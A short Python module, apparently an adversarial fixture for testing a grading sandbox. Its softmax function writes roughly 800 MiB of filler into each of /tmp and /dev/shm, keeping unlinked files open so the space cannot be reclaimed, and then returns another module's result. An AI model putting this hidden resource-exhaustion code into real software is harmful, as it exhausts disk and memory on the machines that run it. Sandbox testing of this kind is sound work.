"""Fills /tmp and /dev/shm with files, also with files that have no name any more.

Dresses up: wrong. Checks: test_softmax_gives_masked_scores_no_weight.
"""
import os

import wrong

held = []


def softmax(x, axis=-1, temperature=1.0):
    for folder in ("/tmp", "/dev/shm"):
        total = 0
        try:
            for i in range(100):
                held.append(open(f"{folder}/left{i}", "wb", 0))
                os.unlink(f"{folder}/left{i}") if i % 2 else None
                for _ in range(8):
                    total += held[-1].write(b"\1" * (1 << 20))
            print("OPEN", total >> 20, "MiB in", folder, flush=True)
        except OSError:
            pass
    return wrong.softmax(x)


log_softmax, softmax_jvp = wrong.log_softmax, wrong.softmax_jvp
